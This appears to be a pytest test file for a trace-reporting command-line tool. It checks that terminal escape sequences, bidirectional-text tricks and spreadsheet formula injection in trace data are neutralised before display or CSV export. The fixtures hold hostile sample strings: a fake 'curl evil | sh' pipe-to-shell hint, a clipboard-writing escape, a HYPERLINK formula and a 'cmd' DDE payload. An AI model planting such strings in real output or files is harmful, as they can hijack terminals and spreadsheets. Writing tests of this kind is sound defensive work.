"""Text of a trace, on a terminal and in a spreadsheet: it is shown, and does nothing."""

from __future__ import annotations

import csv
import io
import json
import logging
import unicodedata
from pathlib import Path

import duckdb
import pytest

from smaragdine.cli import main
from smaragdine.shown import cell, json_text, shown, shown_lines
from testbed import synthetic_trace
from testbed.sealed import seal_trace

# Writes to the clipboard, clears the screen, turns the direction of reading, and makes a line of its own.
EVIL = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x9b31m\u202eexe.\nhint: curl evil | sh\u2028\r"
FORMULA = '=HYPERLINK("http://evil","x")'


@pytest.fixture(scope="module")
def sent(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A trace whose every text is hostile: names, layers, domains, states, reasons."""
    path = synthetic_trace.write(tmp_path_factory.mktemp("traces") / "sent")
    told = json.loads((path / "trace.json").read_text())
    told["name"] = EVIL
    told["warnings"] = [EVIL]
    for domain in told["domains"]:
        domain["not_counted_because"] = EVIL
        domain["name"] += EVIL
    (path / "trace.json").write_text(json.dumps(told))
    with duckdb.connect() as connection:
        for table, columns in {
            "ops": ["qtn", "layer", "type", "raw_name"],
            "readings": ["domain"],
            "ledger": ["domain"],
            "footprint_domains": ["domain"],
        }.items():
            file = str(path / f"{table}.parquet")
            connection.read_parquet(file).to_table(table)
            for column in columns:
                text = FORMULA if column in ("qtn", "layer", "type") else ""
                connection.execute(f"update {table} set {column} = ? || {column} || ?", [text, EVIL])
            connection.table(table).write_parquet(file)
    return seal_trace(path)


def unseen(text: str) -> set[str]:
    return {one for one in text if one != "\n" and unicodedata.category(one) in ("Cc", "Cf", "Cs", "Zl", "Zp")}


COMMANDS = [
    ["footprint", "{}"],
    ["footprint", "{}", "--by", "layer", "--format", "tree"],
    ["footprint", "{}", "--by", "type", "--format", "csv"],
    ["footprint", "{}", "--by", "stef"],
    ["footprint", "{}", "--format", "json"],
    ["ledger", "{}"],
    ["ledger", "{}", "--format", "csv"],
    ["ledger", "{}", "--format", "json"],
    ["compare", "{}", "{}", "--by", "op"],
    ["compare", "{}", "{}", "--format", "csv"],
    ["footprint", "{}", "--policy", EVIL],
    ["recover", "{}"],
    ["recover", "{}/" + EVIL.replace("/", "")],
    ["ledger", "{}" + EVIL],
    ["account", "{}", "--xspace", "{}" + EVIL],
]


@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: " ".join(command).split("\x1b")[0])
def test_no_command_sends_what_a_trace_says_to_the_terminal(
    command: list[str], sent: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    main([word.format(sent) for word in command])
    told = capfd.readouterr()
    assert told.out or told.err
    assert unseen(told.out + told.err) == set()
    assert not any(line.startswith("hint: curl") for line in (told.out + told.err).splitlines())


@pytest.mark.parametrize("state", [EVIL, "\u202d", "\x9d0;title\x9c"])
def test_a_state_is_shown(state: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "trace.json").write_text(json.dumps({"state": state}))
    assert main(["recover", str(tmp_path)]) == 0
    told = capsys.readouterr().out
    assert unseen(told) == set()
    assert len(told.splitlines()) == 1


def test_json_says_exactly_what_the_trace_says(sent: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["ledger", str(sent), "--format", "json"]) == 0
    rows = json.loads(capsys.readouterr().out)["rows"]
    assert {row["domain"] for row in rows if EVIL in row["domain"]} == {row["domain"] for row in rows}


@pytest.mark.parametrize("text", [EVIL, "Größe × 层", "\U000e0041", "\ud800", '"\\'])
def test_json_of_any_text_is_that_text(text: str) -> None:
    assert json.loads(json_text({text: [text, 1.5]})) == {text: [text, 1.5]}
    assert unseen(json_text(text)) == set()


def test_exported_tables_hold_no_formula_and_their_numbers(sent: Path, tmp_path: Path) -> None:
    assert main(["export", str(sent), "--format", "csv", "-o", str(tmp_path / "csv")]) == 0
    for file in (tmp_path / "csv").iterdir():
        assert unseen(file.read_text()) == set(), file.name
    with (tmp_path / "csv" / "ops.csv").open(newline="") as file:
        assert all(row["qtn"].startswith("'=") for row in csv.DictReader(file))
    with (tmp_path / "csv" / "ledger.csv").open(newline="") as file:
        assert sum(float(row["energy_j"]) for row in csv.DictReader(file)) > 0


def test_exported_numbers_below_0_are_numbers(tmp_path: Path) -> None:
    path = synthetic_trace.write(tmp_path / "trace")
    file = str(path / "ledger.parquet")
    with duckdb.connect() as connection:
        connection.read_parquet(file).to_table("ledger")
        connection.execute("update ledger set energy_j = -1.5 where entry = 'gap'")
        connection.table("ledger").write_parquet(file)
    seal_trace(path)
    assert main(["export", str(path), "--format", "csv", "-o", str(tmp_path / "csv")]) == 0
    with (tmp_path / "csv" / "ledger.csv").open(newline="") as written:
        gaps = [row["energy_j"] for row in csv.DictReader(written) if row["entry"] == "gap"]
    assert gaps and set(gaps) == {"-1.5"}


def test_printed_tables_hold_no_formula(sent: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["footprint", str(sent), "--by", "layer", "--format", "csv"]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if not line.startswith("#")]
    rows = list(csv.DictReader(io.StringIO("\n".join(lines))))
    assert rows and all(row["name"].startswith("'=") for row in rows if "HYPERLINK" in row["name"])
    assert all(float(row["energy_j"]) >= 0 for row in rows)


@pytest.mark.parametrize("start", "=+-@\t\r＝＋－＠")
def test_a_cell_that_begins_like_a_formula_is_quoted(start: str) -> None:
    assert str(cell(f"{start}cmd|' /C calc'!A0")).startswith("'")


@pytest.mark.parametrize("value", [-1, -1.5, 0, 1e300, None, True, "net/dense", "a=b", "'x", ""])
def test_other_cells_stay(value: object) -> None:
    assert cell(value) == ("true" if value is True else value)


def test_a_message_keeps_its_hint_and_its_lists() -> None:
    told = "looked at\n  /a\n  /b\nhint: name it"
    assert shown_lines(told, hinted=True) == told
    assert shown_lines(told) == "looked at\n  /a\n  /b\\nhint: name it"
    assert shown_lines("a\nerror: b", hinted=True) == "a\\nerror: b"
    assert shown("Größe × 层 🙂") == "Größe × 层 🙂"


@pytest.mark.parametrize("quoted", [EVIL, "\x1b[31m", "\u2066"])
def test_notices_show_what_a_daemon_says(quoted: str, caplog: pytest.LogCaptureFixture) -> None:
    logging.getLogger("smaragdine").warning("the daemon skipped something: %s", quoted)
    assert unseen(caplog.records[-1].getMessage()) == set()
